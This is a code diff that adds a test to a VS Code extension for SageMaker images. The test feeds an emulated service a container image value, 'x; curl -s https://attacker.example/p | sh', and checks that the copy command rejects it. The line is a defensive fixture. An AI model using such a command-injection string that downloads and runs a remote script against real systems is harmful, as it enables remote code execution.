@@ -189,6 +189,14 @@ describe('forged command arguments (issue 13)', function () {
       assert.equal(await vscode.env.clipboard.readText(), UNTOUCHED);
     });
 
+    it('Copy Container Image URI copies nothing when the service answers with text that is not a registry path', async () => {
+      emulator.seed({ region: 'eu-west-1', images: [{ name: 'fc-shell', versions: [{ containerImage: 'x; curl -s https://attacker.example/p | sh' }] }] });
+      assert.equal(await vscode.commands.executeCommand('sagemakerImages.copyContainerImageUri', imageVersionArn('eu-west-1', 'fc-shell', 1)), undefined);
+      assert.equal(await vscode.env.clipboard.readText(), UNTOUCHED);
+      await quiet();
+      assert.ok(emulator.calls('DescribeImageVersion').some((c) => c.params.ImageName === 'fc-shell' && c.region === 'eu-west-1'), 'the service was asked');
+    });
+
     it('Copy Container Image URI copies the URI of the ARN\'s own account only', async () => {
       const other = 'arn:aws:sagemaker:us-east-1:111111111111:image-version/fa-kernel/2';
       assert.equal(await vscode.commands.executeCommand('sagemakerImages.copyContainerImageUri', other), undefined);
